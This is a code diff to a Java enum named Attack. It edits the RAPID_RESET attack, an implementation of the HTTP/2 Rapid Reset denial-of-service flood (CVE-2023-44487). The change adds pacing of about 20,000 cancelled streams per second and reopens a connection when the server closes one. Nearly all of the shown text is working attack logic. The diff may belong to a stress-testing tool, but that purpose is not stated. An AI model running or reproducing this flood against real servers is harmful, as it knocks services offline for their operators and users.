@@ -53,7 +53,7 @@ enum Attack {
         }
     },
 
-    /** Calls that are given up as soon as they are made, as fast as the server takes them (CVE-2023-44487). */
+    /** Calls that are given up as soon as they are made (CVE-2023-44487): up to 20,000 a second, on a new connection when one is closed. */
     RAPID_RESET {
         @Override
         void run(InetSocketAddress server, String path, BooleanSupplier goes) throws IOException, InterruptedException {
@@ -64,6 +64,9 @@ enum Attack {
                     boolean isOpen = writeAll(channel, dialogue.opening());
                     for (int stream = 1; isOpen && goes.getAsBoolean(); stream += 2) {
                         isOpen = writeAll(channel, given(dialogue, stream));
+                        if (stream % 200 == 1) {
+                            TimeUnit.MILLISECONDS.sleep(5);
+                        }
                     }
                 }
             }
